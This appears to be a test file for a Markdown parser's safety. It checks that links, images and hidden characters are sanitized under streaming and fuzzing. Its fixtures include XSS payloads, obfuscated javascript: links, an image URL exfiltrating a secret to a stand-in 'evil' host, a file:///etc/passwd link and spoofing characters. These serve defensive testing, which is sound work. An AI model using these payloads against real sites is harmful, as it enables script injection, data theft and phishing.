import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { BlockNode, InlineNode } from '../../../public/app/markdown/nodes.ts';
import { createMarkdownModel, parseMarkdown } from '../../../public/app/markdown/parse-markdown.ts';
import { safeLink } from '../../../public/app/markdown/safe-link.ts';

type AnyNode = BlockNode | InlineNode;

/** Every object of a tree that is a node, by walking the plain data. */
function nodesOf(value: unknown): AnyNode[] {
  if (Array.isArray(value)) return value.flatMap(nodesOf);
  if (typeof value !== 'object' || value === null) return [];
  const own = 'type' in value ? [value as AnyNode] : [];
  return [...own, ...Object.values(value).flatMap(nodesOf)];
}

function treeOf(source: string): AnyNode[] {
  return nodesOf(parseMarkdown(source).map((block) => block.node));
}

const allowed = new Set(
  'text invisible link strong emphasis strike code-span break image paragraph heading quote rule code list table plain'.split(' '),
);
const hidden = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069\u{E0000}-\u{E0FFF}]/u;

/** Throws when a node could do harm. */
function assertSafe(nodes: readonly AnyNode[]): void {
  for (const node of nodes) {
    expect(allowed.has(node.type)).toBe(true);
    if (node.type === 'link') expect(node.href).toMatch(/^(?:https?:\/\/[^/]|mailto:)/);
    if (node.type === 'image') expect(node.src).toMatch(/^\/api\/files\/[\w-]+/);
    if (node.type === 'text' && 'text' in node) expect(node.text).not.toMatch(hidden);
    if (node.type === 'code') expect(node.language).toMatch(/^[\w+#.-]{0,40}$/);
  }
}

const nasty = [
  '![x](https://evil/p?d=SECRET)',
  '<img src=x onerror=alert(1)>',
  '[a](JaVaScRiPt&#58;alert(1))',
  '[a](java\tscript:alert(1))',
  '[a](<java\nscript:alert(1)>)',
  '[a](\u0001javascript:alert(1))',
  '[a](java\u0000script:alert(1))',
  '[a](vbscript:x) [b](//evil) [c](\\\\evil) [d](data:text/html,x) [e](https:\\\\evil) [f](file:///etc/passwd)',
  '<svg><script>alert(1)</script></svg><math><mtext><style>',
  '<style>@import url(//evil)</style> <p style="background:url(//evil)">',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '[bank\u202Emoc](https://evil.example) hidden\u{E0041}\u{E0042}tags',
  '[x]: javascript:alert(1)\n\n[x] and [^1]\n\n[^1]: note',
  '<picture><source srcset="//evil"></picture><video poster=//evil><audio src=//evil>',
  '![a](/api/files/../../etc) ![b](/api/files/ok) ![c](//evil/api/files/x) ![d](/api/files/x%2f..)',
  '> - 1. > ```js\n> x',
  '| a | b |\n|--|--|\n| [x](javascript:1) | ![y](http://e/x) |',
  '- [ ] [a](mailto:x@y.z?body=1)\n\t- b\n\n\n1) x\n~~~\n<b>',
];

describe('hostile Markdown', () => {
  test.each(nasty)('%j is safe at every prefix, streamed or whole', (source) => {
    const model = createMarkdownModel();
    for (let end = 1; end <= source.length; end += 1) {
      const prefix = source.slice(0, end);
      assertSafe(nodesOf(model.update(prefix, true).map((block) => block.node)));
      assertSafe(treeOf(prefix));
    }
  });

  test('every streaming prefix of a mixture of nasty pieces is safe and never throws', () => {
    const piece = fc.oneof(
      fc.constantFrom(...nasty, '\n\n', '\n', '```', '~~~', '    ', '- ', '> ', '# ', '|', '\r\n', '***', '[', ']('),
      fc.string({ unit: 'binary', maxLength: 20 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), fc.integer({ min: 1, max: 17 }), (pieces, step) => {
        const source = pieces.join('');
        const model = createMarkdownModel();
        for (let end = 0; end < source.length; end += step) {
          assertSafe(nodesOf(model.update(source.slice(0, end), true).map((block) => block.node)));
        }
        const end = model.update(source, false).map((block) => block.node);
        assertSafe(nodesOf(end));
        expect(end).toEqual(parseMarkdown(source).map((block) => block.node));
      }),
      { numRuns: 300 },
    );
  });
});

describe('links and pictures', () => {
  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt&#58;alert(1)',
    'javascript&colon;alert(1)',
    ' \u0001javascript:alert(1)',
    'vbscript:x',
    'data:text/html,x',
    '//evil',
    '\\\\evil',
    '/relative',
    'https:/x',
    'https://',
    'file:///x',
    'blob:https://x/y',
    `https://x/${'a'.repeat(3000)}`,
  ])('%j is not a link', (href) => {
    expect(safeLink(href)).toBeUndefined();
  });

  test('a link whose words do not name its target shows the host', () => {
    const [link] = treeOf('[https://bank.example](https://evil.example/x)').filter((node) => node.type === 'link');
    expect(link).toMatchObject({ href: 'https://evil.example/x', host: 'evil.example' });
  });

  test('a plain address shows no host beside itself', () => {
    const [link] = treeOf('see https://example.com/a').filter((node) => node.type === 'link');
    expect(link).not.toHaveProperty('host');
  });

  test('a look-alike host is shown in its ASCII form', () => {
    const [link] = treeOf('<https://\u0430pple.com/>').filter((node) => node.type === 'link');
    expect(link).toMatchObject({ host: expect.stringContaining('xn--') });
  });

  test('a remote picture becomes a link with its description and host; an own one stays a picture', () => {
    const nodes = treeOf('![a map](https://example.org/m.png) ![mine](/api/files/abc)');
    expect(nodes.find((node) => node.type === 'link')).toMatchObject({ image: true, host: 'example.org' });
    expect(nodes.filter((node) => node.type === 'image')).toEqual([{ type: 'image', src: '/api/files/abc', alt: 'mine' }]);
  });

  test('hidden characters are named; those that Persian, emoji and flags need stay', () => {
    expect(treeOf('a\u202Eb').find((node) => node.type === 'invisible')).toMatchObject({ name: 'U+202E', count: 1 });
    const kept = 'می\u200Cخواهم \u{1F468}\u200D\u{1F469} \u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}';
    expect(parseMarkdown(kept)[0]?.node).toEqual({ type: 'paragraph', children: [{ type: 'text', text: kept }] });
  });
});
